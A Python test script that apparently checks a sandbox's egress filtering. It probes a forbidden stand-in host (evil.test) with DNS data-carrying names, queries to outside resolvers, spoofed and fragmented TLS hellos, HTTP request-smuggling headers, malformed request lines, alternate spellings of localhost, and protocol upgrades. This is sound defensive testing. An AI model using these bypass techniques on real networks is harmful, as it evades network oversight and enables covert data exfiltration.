"""Probes of the way out, run inside a computer: against a host that nobody permitted, and, as proof that each can succeed, against
one that is permitted. One line each: `name TARGET: what came of it`. `ways.rs` says what is right.

usage: ways.py FACTS.json
"""

import errno
import json
import os
import signal
import socket
import ssl
import sys
import traceback

SECONDS_MAX = 60
WAIT = 20
FACTS = {}
PROBES = {}
SHOP = "shop.test"


def probe(function):
    PROBES[function.__name__] = function
    return function


def named(error):
    if isinstance(error, socket.gaierror):
        return "no answer"
    if isinstance(error, TimeoutError):
        return "silence"
    if isinstance(error, (ConnectionResetError, BrokenPipeError)):
        return "cut"
    return errno.errorcode.get(error.errno, str(error))


def once(seen):
    """One word where all came to the same, else which came to what."""
    words = set(seen.values())
    return words.pop() if len(words) == 1 else ", ".join(f"{how}: {said}" for how, said in seen.items())


def status(line, words, piece=None):
    """The code that a request gets on this line, sent so many bytes at a time."""
    with line:
        for at in range(0, len(words), piece or len(words)):
            line.sendall(words[at:at + (piece or len(words))])
        heard = b""
        while b"\r\n" not in heard:
            more = line.recv(4096)
            if not more:
                return "cut"
            heard += more
        return heard.split()[1].decode(errors="replace")


def connected(host, port):
    return socket.create_connection((host, port), WAIT)


def proxy():
    return connected("127.0.0.1", 3128)


def tunnel(place):
    line = proxy()
    line.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
    heard = b""
    while not heard.endswith(b"\r\n\r\n"):
        more = line.recv(1)
        if not more:
            break
        heard += more
    code = heard.split()[1].decode() if heard else "cut"
    return line, code


def socks(host, port):
    line = connected("127.0.0.1", 1080)
    line.sendall(b"\x05\x01\x00")
    line.recv(2)
    name = host.encode()
    line.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + port.to_bytes(2, "big"))
    return line, {0: "open", 2: "not permitted"}.get(line.recv(10)[1], "failed")


def attempt(function, *arguments):
    try:
        return function(*arguments)
    except OSError as error:
        return named(error)


def get(target, host):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def ways_in():
    """Tunnels to the site that is permitted, for plain HTTP."""
    return [("tunnel", lambda: tunnel(f"{SHOP}:80")[0]), ("socks", lambda: socks(SHOP, 80)[0])]


def tls(line, name, piece=None):
    """Whether somebody answers the first words of TLS that ask for this name, sent in records of so many bytes."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    if piece:
        body = hello[5:]
        parts = [body[at:at + piece] for at in range(0, len(body), piece)]
        hello = b"".join(hello[:3] + len(part).to_bytes(2, "big") + part for part in parts)
    return answered(line, hello)


def answered(line, words):
    with line:
        line.sendall(words)
        first = line.recv(1)
        return {b"": "cut", b"\x15": "cut", b"\x16": "tls"}.get(first, f"something else: {first!r}")


def stand_in(name):
    found = socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    return "a stand-in" if found.startswith("127.200.") else found


# Names.


@probe
def p34_a_denied_name(name):
    found = attempt(stand_in, name)
    return once({"name": found} if found == "no answer" else {
        "name": found, "http": attempt(lambda: status(connected(name, 80), get("/", name))),
        "tls": attempt(lambda: tls(connected(name, 443), name))})


@probe
def p34_a_denied_name_through_the_proxies(name):
    return once({"http": attempt(lambda: status(proxy(), get(f"http://{name}/", name))),
                 "tunnel": attempt(lambda: tunnel(f"{name}:443")[1]),
                 "socks": attempt(lambda: socks(name, 443)[1])})


def asked(name, kind):
    """How many answers a question of this kind gets from whoever answers for names."""
    question = b"\xab\xcd\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(WAIT)
        one.connect(("127.0.0.1", 53))
        one.send(question + b"\0" + kind.to_bytes(2, "big") + b"\0\x01")
        return str(int.from_bytes(one.recv(512)[6:8], "big"))


@probe
def p35_two_hundred_names_that_carry_data(name):
    names = [f"{os.urandom(25).hex()}.{os.urandom(25).hex()}.{name}" for _ in range(200)]
    found = {attempt(lambda: socket.gethostbyname(one)) for one in names}
    kinds = {attempt(asked, f"{os.urandom(25).hex()}.{name}", kind) for kind in (16, 10, 28, 15, 33, 5, 2)}
    return f"{len(found) if len(found) > 1 else found.pop()}, answers of other kinds: {' '.join(sorted(kinds))}"


@probe
def p35_questions_past_the_computers_own_resolver(name):
    def sent(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(WAIT)
            one.connect(address)
            one.send(os.urandom(25).hex().encode())
            try:
                one.recv(1)
                return "answered"
            except TimeoutError:
                return "sent"
    resolvers = {f"resolver {at}": (at, 53) for at in ("192.0.2.53", "198.51.100.53")}
    return once({how: attempt(sent, address) for how, address in resolvers.items()}) + \
        ", to the host: " + attempt(sent, ("127.0.0.1", FACTS["datagrams"]))


# The name in TLS.


@probe
def p37_tls_for_another_name(name):
    return once({"tunnel": attempt(lambda: tls(tunnel(f"{SHOP}:443")[0], name)),
                 "address": attempt(lambda: tls(connected(SHOP, 443), name)),
                 "socks": attempt(lambda: tls(socks(SHOP, 443)[0], name))})


@probe
def p37_tls_for_another_name_in_pieces(name):
    return once({f"{way} {piece}": attempt(lambda: tls(open_it(), name, piece)) for piece in (1, 7, 60) for way, open_it in
                 [("tunnel", lambda: tunnel(f"{SHOP}:443")[0]), ("address", lambda: connected(SHOP, 443))]})


@probe
def p37_tls_that_cannot_be_read(name):
    """Two names in one hello: one for whoever looks, one for the server."""
    def extension(*names):
        return b"".join(b"\0" + len(one).to_bytes(2, "big") + one.encode() for one in names)

    def hello(names):
        server_name = b"\0\0" + (len(names) + 2).to_bytes(2, "big") + len(names).to_bytes(2, "big") + names
        groups = bytes.fromhex("000a00040002001d000d000a00080403080404010503")
        share = bytes.fromhex("003300260024001d0020") + os.urandom(32)
        extensions = server_name + groups + share + bytes.fromhex("002b0003020304")
        body = b"\x03\x03" + os.urandom(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + len(extensions).to_bytes(2, "big") + extensions
        words = b"\x01" + len(body).to_bytes(3, "big") + body
        return b"\x16\x03\x01" + len(words).to_bytes(2, "big") + words
    names = extension(SHOP) if name == SHOP else extension(SHOP, name)
    return once({"tunnel": attempt(lambda: answered(tunnel(f"{SHOP}:443")[0], hello(names))),
                 "address": attempt(lambda: answered(connected(SHOP, 443), hello(names)))})


# The name in a request.


@probe
def p38_a_request_that_names_two_hosts(name):
    return once({"proxy": attempt(lambda: status(proxy(), get(f"http://{SHOP}/", name))),
                 "address": attempt(lambda: status(connected(SHOP, 80), get("/", name)))})


TRICKS = {
    "two lengths": b"Content-Length: 4\r\nContent-Length: 5\r\n",
    "the same length twice": b"Content-Length: 4\r\nContent-Length: 4\r\n",
    "two lengths in one": b"Content-Length: 4, 5\r\n",
    "a signed length": b"Content-Length: +4\r\n",
    "a length in hex": b"Content-Length: 0x4\r\n",
    "length and pieces": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
    "pieces and length": b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
    "pieces twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "pieces of pieces": b"Transfer-Encoding: gzip, chunked\r\n",
    "pieces that are none": b"Transfer-Encoding: xchunked\r\n",
    "a space before the colon": b"Transfer-Encoding : chunked\r\n",
    "a folded line": b"X: a\r\n Transfer-Encoding: chunked\r\n",
    "a bare end of line": b"X: a\nTransfer-Encoding: chunked\r\n",
    "a bare return": b"X: a\rTransfer-Encoding: chunked\r\n",
    "a zero": b"X: a\0b\r\n",
    "two hosts": b"Host: evil.test\r\n",
}


@probe
def p38_smuggling(name):
    second = get("/second", "evil.test")
    tricks = {"none": b""} if name == SHOP else TRICKS
    begin = f"POST /first HTTP/1.1\r\nHost: {SHOP}\r\n".encode()
    return once({f"{trick} {way}": attempt(lambda: status(open_it(), first + lines + b"\r\n0\r\n\r\n" + second))
                 for trick, lines in tricks.items() for way, first, open_it in [
                     ("address", begin, lambda: connected(SHOP, 80)),
                     ("proxy", begin.replace(b"/first", f"http://{SHOP}/first".encode()), proxy),
                     *((way, begin, open_it) for way, open_it in ways_in())]})


@probe
def p38_request_lines(name):
    lines = ["GET / HTTP/1.1"] if name == SHOP else [
        "GET  / HTTP/1.1", "GET / HTTP/1.1 x", "GET /", "GET / HTTP/2.0", "GET\t/ HTTP/1.1", "GE T / HTTP/1.1", "GET /\v HTTP/1.1", "G\0T / HTTP/1.1",
        "GET http://evil.test/ HTTP/1.1", "CONNECT evil.test:80 HTTP/1.1"]
    return once({line: attempt(lambda: status(connected(SHOP, 80), f"{line}\r\nHost: {SHOP}\r\n\r\n".encode())) for line in lines})


@probe
def p38_another_host_in_a_tunnel(name):
    requests = {"host": (get("/", name), None), "whole address": (get(f"http://{name}/", SHOP), None), "in pieces": (get("/", name), 1),
                "small letters": (get("/", name).replace(b"GET", b"get"), 7)}
    return once({f"{way} {how}": attempt(lambda: status(open_it(), *words))
                 for way, open_it in ways_in() for how, words in requests.items()})


@probe
def p38_a_second_request_in_a_tunnel(name):
    def asked(open_it):
        with open_it() as line:
            line.sendall(get("/one", SHOP))
            heard = b""
            while not heard.endswith(b"came\n"):
                more = line.recv(4096)
                if not more:
                    return "no answer to the first"
                heard += more
            return status(line, get("/two", name))
    return once({way: attempt(lambda: asked(open_it)) for way, open_it in ways_in()})


@probe
def p38_request_lines_in_a_tunnel(name):
    lines = ["GET / HTTP/1.1"] if name == SHOP else [
        "GET  / HTTP/1.1", "GET / HTTP/1.1 x", "GET /", "GET / HTTP/2.0", "GET\t/ HTTP/1.1", "GE T / HTTP/1.1", "GET /\v HTTP/1.1", "GET / http/1.1",
        "\r\nGET / HTTP/1.1", "\nGET / HTTP/1.1", " GET / HTTP/1.1", "CONNECT evil.test:80 HTTP/1.1", "PRI * HTTP/2.0", "GET http://evil.test/",
        "GET / HTTP/1.1\nHost: evil.test\n", "GET / HTTP/1.1\rHost: evil.test\r", f"GET /{'x' * 100_000}"]
    seen = {f"{line[:40]!r} {way}": attempt(lambda: status(open_it(), f"{line}\r\nHost: {SHOP}\r\n\r\n".encode()))
            for line in lines for way, open_it in ways_in()}
    if name != SHOP:
        seen |= {f"no host {way}": attempt(lambda: status(open_it(), b"GET / HTTP/1.0\r\n\r\n")) for way, open_it in ways_in()}
    return once(seen)


# Other spellings.


OLD = ["127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "127.0.0.1.", "[::ffff:127.0.0.1]",
       "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:0001]"]


@probe
def p39_spellings_of_this_machine(name):
    port = FACTS["named_port"] if name == SHOP else FACTS["port"]
    more = [] if name == SHOP else ["localhost", "LOCALHOST.", "x.localhost", "0.0.0.0", "0", "[::]", "[::1]", "[64:ff9b::7f00:1]", "[::127.0.0.1]"]
    return once({host: attempt(lambda: status(proxy(), get(f"http://{host}:{port}/", f"{host}:{port}"))) for host in OLD + more})


@probe
def p39_spellings_of_a_name(name):
    seen = {}
    for host in [name.upper(), name + ".", name.title()]:
        seen[host] = attempt(lambda: status(proxy(), get(f"http://{host}/", host)))
    seen["tunnel"] = attempt(lambda: tunnel(f"{name.upper()}.:443")[1])
    return once(seen)


@probe
def p39_names_that_look_alike(name):
    alike = [SHOP] if name == SHOP else ["\u0455hop.test".encode("idna").decode(), "sh\u043ep.test".encode("idna").decode(), "shop.test.evil.test",
                                         "shop-test", "xshop.test", "shop.tes", "www.shop.test", "shop.test%2eevil.test", "shop.test@evil.test"]
    return refused({host: attempt(lambda: status(proxy(), get(f"http://{host}/", host))) for host in alike})


def refused(seen):
    """One word for the two ways in which a name is turned away: not permitted, and no name at all."""
    return once({how: "refused" if said in ("403", "400") else said for how, said in seen.items()})


# The proxy itself.


@probe
def p41_the_proxys_own_doors(name):
    places = [f"{SHOP}:80"] if name == SHOP else [
        f"{host}:{port}" for port in (3128, 1080, 80, 443, 53) for host in
        ("127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "127.0.0.2", "127.255.255.254")]
    return once({place: attempt(lambda: status(proxy(), get(f"http://{place}/", place))) for place in places})


@probe
def p41_the_hosts_own_doors(name):
    """What serves tasks listens on the machine, like this bait."""
    places = [(SHOP, 80)] if name == SHOP else [(host, FACTS["port"]) for host in ("127.0.0.1", "localhost", FACTS["machine"])]
    words = {"open": "200", "not permitted": "403", "failed": "403"}
    seen = {}
    for host, port in places:
        seen[f"{host} http"] = attempt(lambda: status(proxy(), get(f"http://{host}:{port}/", f"{host}:{port}")))
        seen[f"{host} tunnel"] = attempt(lambda: tunnel(f"{host}:{port}")[1])
        seen[f"{host} socks"] = attempt(lambda: words.get(socks(host, port)[1], "?"))
    return once(seen)


# Other ways to speak.


@probe
def p42_a_web_socket(name):
    words = get("/", name).replace(b"\r\n\r\n", b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                                   b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")

    def tunnelled():
        line, code = tunnel(f"{name}:80")
        return status(line, words) if code == "200" else code
    return once({"address": attempt(lambda: status(connected(name, 80), words)), "tunnel": attempt(tunnelled)})


@probe
def p42_another_host_behind_a_web_socket(name):
    """Plain HTTP/2, and a second request, after a first one that asked for another protocol."""
    words = get("/", SHOP).replace(b"\r\n\r\n", b"\r\nUpgrade: %s\r\nConnection: Upgrade\r\n\r\n")
    return once({f"{way} {how}": attempt(lambda: status(open_it(), words % how.encode() + get("/second", "evil.test")))
                 for way, open_it in ways_in() for how in (["websocket"] if name == SHOP else ["h2c", "x, H2C", "h2"])})


@probe
def p42_quic_and_then_tcp(name):
    def datagram(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(WAIT)
            one.connect(address)
            one.send(b"\xc0\0\0\0\x01\x08" + os.urandom(1194))
            return "answered" if one.recv(1) else "silence"
    address = attempt(socket.gethostbyname, name)
    udp = {"name": attempt(datagram, (address, 443)) if address != "no answer" else "ECONNREFUSED", "proxy": attempt(datagram, ("127.0.0.1", 443))}
    return f"{once(udp)}, outside: {attempt(datagram, ('192.0.2.1', 443))}, then: " + attempt(lambda: status(connected(name, 80), get("/", name)))


def told(function, name):
    """In a process of its own, so that none takes the others with it."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        signal.alarm(SECONDS_MAX)
        try:
            said = function(name)
        except BaseException:  # noqa: BLE001: whatever it is, it is told
            said = "broke: " + traceback.format_exc(limit=-2).replace("\n", " | ")
        os.write(writer, said.encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as file:
        said = file.read().decode(errors="replace")
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return said or f"ended with {code}"


def main():
    with open(sys.argv[1]) as file:
        FACTS.update(json.load(file))
    for name, function in PROBES.items():
        for target in ("evil.test", SHOP):
            print(f"{name} {target}: {told(function, target)}", flush=True)


main()
